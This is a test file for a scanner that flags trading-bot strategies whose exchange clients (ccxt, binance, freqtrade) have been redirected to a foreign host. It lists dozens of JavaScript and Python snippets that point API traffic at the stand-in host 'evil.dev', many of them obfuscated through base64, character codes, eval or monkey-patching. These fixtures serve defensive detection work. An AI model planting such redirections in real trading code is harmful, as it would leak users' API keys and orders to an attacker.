import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { eyesOf } from '../../../src/app/eyes.ts';
import { addressUses } from '../../../src/posture/packages/code/address-uses.ts';
import { parsePython } from '../../../src/posture/packages/code/python-parser.ts';
import { parseScript } from '../../../src/posture/packages/code/script-parser.ts';

/** What is told of it, so that it cannot pass: a foreign host, or that only a run shows one. */
const told = (uses: ReturnType<typeof addressUses>): string[] =>
  uses.flatMap(({ hosts, isOpen }) => [
    ...hosts.filter(({ kind }) => kind === 'foreign').map(({ host }) => host),
    ...(isOpen ? ['open'] : []),
  ]);

const I = "import ccxt from 'ccxt'; const x = new ccxt.okx(); ";
const P = 'import ccxt\nx = ccxt.okx()\n';
const b64 = Buffer.from('https://evil.dev/api').toString('base64');

/** Ways in which a strategy sends orders or keys elsewhere. */
const inScripts: Readonly<Record<string, string>> = {
  computedKey: `${I}const k='ur'+'ls'; x[k]['api'] = 'https://evil.dev';`,
  computedKey2: `${I}x['ur'+'ls'].api = 'https://evil.dev';`,
  computedName: `${I}const k='urls'; x[k].api = {rest:'https://evil.dev'};`,
  computedLoop: `${I}for (const k of Object.keys(x.urls.api)) x.urls.api[k] = x.urls.api[k].replace('www.okx.com','evil.dev');`,
  assign: `${I}Object.assign(x, { urls: { api: 'https://evil.dev' } });`,
  assignHost: `${I}Object.assign(x, { hostname: 'evil.dev' });`,
  defineProperty: `${I}Object.defineProperty(x, 'hostname', { value: 'evil.dev' });`,
  defineUrls: `${I}Object.defineProperty(x, 'urls', { get() { return { api: 'https://evil.dev' }; } });`,
  reflectSet: `${I}Reflect.set(x, 'hostname', 'evil.dev');`,
  spread: "import ccxt from 'ccxt'; const o={urls:{api:'https://evil.dev'}}; new ccxt.okx({...o});",
  subclassDescribe:
    "import ccxt from 'ccxt'; class X extends ccxt.okx { describe() { return this.deepExtend(super.describe(), { urls: { api: 'https://evil.dev' } }); } }",
  subclassCtor:
    "import ccxt from 'ccxt'; class X extends ccxt.okx { constructor(o) { super(o); this['urls']['api'] = 'https://evil.dev'; } }",
  proto: "import ccxt from 'ccxt'; ccxt.okx.prototype.sign = function () { return { url: 'https://evil.dev' }; };",
  protoAssign:
    "import ccxt from 'ccxt'; Object.assign(ccxt.okx.prototype, { sign() { return { url: 'https://evil.dev' }; } });",
  protoComputed: "import ccxt from 'ccxt'; ccxt['okx']['prototype']['si'+'gn'] = () => ({ url: 'https://evil.dev' });",
  setProto: `${I}x.__proto__.sign = () => ({ url: 'https://evil.dev' });`,
  getProto: `${I}Object.getPrototypeOf(x).sign = () => ({ url: 'https://evil.dev' });`,
  globalFetch: `${I}const f = globalThis.fetch; globalThis.fetch = (u, o) => f(u.replace('www.okx.com', 'evil.dev'), o);`,
  globalFetch2: `${I}global['fetch'] = (u,o) => real('https://evil.dev/' + u, o);`,
  fetchImpl: `${I}x.fetchImplementation = (u, o) => fetch('https://evil.dev/?' + u, o);`,
  axiosIntercept:
    "import { MainClient } from 'binance'; import axios from 'axios'; new MainClient({}); axios.interceptors.request.use(c => { c.baseURL = 'https://evil.dev'; return c; });",
  axiosDefaults:
    "import { MainClient } from 'binance'; import axios from 'axios'; axios.defaults.baseURL = 'https://evil.dev';",
  httpRequest: `${I}import https from 'https'; https.request = (o, cb) => real({ ...o, host: 'evil.dev' }, cb);`,
  concat: `${I}x.urls.api = ['https://', 'evil', '.dev'].join('');`,
  concatMethod: `${I}x.urls.api = 'https://'.concat('evil.dev');`,
  reverse: `${I}x.urls.api = 'ved.live//:sptth'.split('').reverse().join('');`,
  charCode: `${I}x.urls.api = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,100,101,118);`,
  buffer: `${I}x.urls.api = Buffer.from('${b64}', 'base64').toString();`,
  b64host: `${I}x.hostname = atob('${Buffer.from('evil.dev').toString('base64')}');`,
  b64split: `${I}x.urls.api = atob('${b64.slice(0, 10)}' + '${b64.slice(10)}');`,
  destruct: "import ccxt from 'ccxt'; const { okx: E } = ccxt; const x = new E(); x.urls.api = 'https://evil.dev';",
  alias: `${I}const u = x.urls; u.api = 'https://evil.dev';`,
  alias2: `${I}const u = x.urls.api; u.rest = 'https://evil.dev';`,
  forEach:
    "import ccxt from 'ccxt'; function make(E){ const x = new E(); x.urls.api='https://evil.dev'; return x;} make(ccxt.okx);",
  proxyObj: `${I}const p = new Proxy(x, { get(t, k) { return k === 'urls' ? { api: 'https://evil.dev' } : t[k]; } });`,
  logical: `${I}x.urls.api ||= 'https://evil.dev'; x.urls['api'] ??= 'https://evil.dev';`,
  evalCode: `${I}eval("x.urls.api='https://evil.dev'");`,
  newFunction: `${I}new Function('x', "x.urls.api='https://evil.dev'")(x);`,
  dynImport: "const { default: c } = await import('ccxt'); const x = new c.okx(); x.hostname='evil.dev';",
  extendsMix:
    "import ccxt from 'ccxt'; const M = (B) => class extends B { sign() { return { url: 'https://evil.dev' }; } }; const X = M(ccxt.okx);",
};
const inPython: Readonly<Record<string, string>> = {
  computed: `${P}k='ur'+'ls'\nx.__dict__[k] = {'api': 'https://evil.dev'}`,
  dict: `${P}x.__dict__['hostname'] = 'evil.dev'`,
  dictUpdate: `${P}x.__dict__.update(hostname='evil.dev')`,
  vars: `${P}vars(x)['urls']['api'] = 'https://evil.dev'`,
  setattrJoin: `${P}setattr(x, 'host' + 'name', 'evil.dev')`,
  setattrVar: `${P}n='hostname'\nsetattr(x, n, 'evil.dev')`,
  setattrUrls: `${P}setattr(x, 'urls', {'api': 'https://evil.dev'})`,
  objSetattr: `${P}object.__setattr__(x, 'hostname', 'evil.dev')`,
  dunderSet: `${P}x.__setattr__('hostname', 'evil.dev')`,
  classSetattr: "import ccxt\nsetattr(ccxt.okx, 'sign', lambda self, *a: {'url': 'https://evil.dev'})",
  monkey: "import ccxt\ndef s(self, *a):\n    return {'url': 'https://evil.dev'}\nccxt.okx.sign = s",
  subclass:
    "import ccxt\nclass X(ccxt.okx):\n    def describe(self):\n        return self.deep_extend(super().describe(), {'urls': {'api': 'https://evil.dev'}})",
  subclassInit:
    "import ccxt\nclass X(ccxt.okx):\n    def __init__(self, c={}):\n        super().__init__(c)\n        self.urls['api'] = 'https://evil.dev'",
  typeCall: "import ccxt\nX = type('X', (ccxt.okx,), {'sign': lambda self,*a: {'url': 'https://evil.dev'}})",
  requestsSession:
    "import ccxt, requests\nreal = requests.Session.request\ndef r(self, m, u, **k):\n    return real(self, m, u.replace('www.okx.com', 'evil.dev'), **k)\nrequests.Session.request = r",
  requestsGet: "import ccxt, requests\nrequests.get = lambda u, **k: real('https://evil.dev/' + u)",
  aiohttp:
    "import ccxt, aiohttp\nasync def r(self, m, u, **k):\n    return await real(self, m, 'https://evil.dev')\naiohttp.ClientSession._request = r",
  urllib3:
    "import ccxt, urllib3\nurllib3.connectionpool.HTTPSConnectionPool.__init__ = lambda s, *a, **k: real(s, 'evil.dev')",
  socket: "import ccxt, socket\nsocket.getaddrinfo = lambda h, p, *a, **k: real('203.0.113.7', p)",
  mount:
    P +
    "class A(HTTPAdapter):\n    def send(self, r, **k):\n        r.url = r.url.replace('www.okx.com','evil.dev')\n        return super().send(r, **k)\nx.session.mount('https://', A())",
  concat: `${P}x.urls['api'] = 'https://' + 'evil' + '.dev'`,
  join: `${P}x.urls['api'] = ''.join(['https://', 'evil', '.dev'])`,
  format: `${P}x.urls['api'] = 'https://{}'.format('evil.dev')`,
  percent: `${P}x.urls['api'] = 'https://%s/api' % 'evil.dev'`,
  reverse: `${P}x.urls['api'] = 'ved.live//:sptth'[::-1]`,
  b64: `${P}import base64\nx.urls['api'] = base64.b64decode('${b64}').decode()`,
  b64bytes: `${P}import base64\nx.hostname = base64.b64decode(b'${Buffer.from('evil.dev').toString('base64')}').decode()`,
  hex: `${P}x.urls['api'] = bytes.fromhex('${Buffer.from('https://evil.dev/api').toString('hex')}').decode()`,
  chr: `${P}x.urls['api'] = ''.join(map(chr, [104,116,116,112,115,58,47,47,101]))`,
  loop: `${P}for k in x.urls['api']:\n    x.urls['api'][k] = x.urls['api'][k].replace('www.okx.com', 'evil.dev')`,
  alias: `${P}u = x.urls\nu['api'] = 'https://evil.dev'`,
  freqtrade:
    "from freqtrade.strategy import IStrategy\nclass S(IStrategy):\n    def bot_start(self, **kw):\n        self.dp._exchange._api.urls['api'] = 'https://evil.dev'",
  freqtradeHost:
    "from freqtrade.strategy import IStrategy\nclass S(IStrategy):\n    def bot_start(self, **kw):\n        self.dp._exchange._api.hostname = 'evil.dev'",
  exec: `${P}exec("x.urls['api']='https://evil.dev'")`,
  walrus: `${P}(u := x.urls)['api'] = 'https://evil.dev'`,
  augassign: `${P}x.urls['api'] |= {'rest': 'https://evil.dev'}`,
  tuple: `${P}x.hostname, y = 'evil.dev', 1`,
  importlib: "import importlib\nc = importlib.import_module('ccxt')\nx = c.okx()\nx.hostname='evil.dev'",
  patch:
    "import ccxt\nfrom unittest.mock import patch\npatch.object(ccxt.okx, 'sign', lambda *a: {'url':'https://evil.dev'}).start()",
  wraps: "import ccxt\nccxt.okx.fetch = functools.partialmethod(f, 'https://evil.dev')",
};

/** What looks like it, and sends no client elsewhere. */
const harmless: Readonly<Record<string, string>> = {
  'another object with such fields': `${I}const o = {}; Object.assign(o, { hostname: 'db.example.com', urls: 1 }); Reflect.set(o, 'hostname', 'a.example.com');`,
  'a base of requests of one\u2019s own': `${I}import axios from 'axios'; axios.defaults.baseURL = 'https://hooks.example.com';`,
  'a fetch that only counts': `${I}const f = globalThis.fetch; globalThis.fetch = (u, o) => { count += 1; return f(u, o); };`,
  'a table of functions': `${I}const m = {}; m['a' + 'b'] = () => 'https://blog.example.com'; m.update({ sign: 1 });`,
  'a text that is no code': `${I}const exec = 1; run('https://docs.example.com');`,
  'a program without a client': "globalThis.fetch = () => real('https://evil.dev');",
};

describe('a client that is turned round', () => {
  it.each(Object.entries(inScripts))('in a script, by %s, is told', (_way, text) => {
    expect(told(addressUses(parseScript('bot.mjs', text))).join(' ')).toMatch(/evil\.dev|open/);
  });

  it('in Python is told in each of its ways', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'keyward-hidden-'));
    const files = Object.entries(inPython).map(([name, text]) => {
      writeFileSync(join(folder, `${name}.py`), text);
      return join(folder, `${name}.py`);
    });
    const parsed = await parsePython(eyesOf({ nowMs: 0 }), files, () => 60_000);
    rmSync(folder, { recursive: true });
    const missed = Object.keys(inPython).filter((_name, at) => {
      const code = parsed.get(files[at] ?? '');
      return code === undefined || 'fault' in code || told(addressUses(code)).length === 0;
    });
    expect(missed).toEqual([]);
  });

  it.each(Object.entries(harmless))('is not told where there is %s', (_what, text) => {
    expect(told(addressUses(parseScript('bot.mjs', text)))).toEqual([]);
  });
});
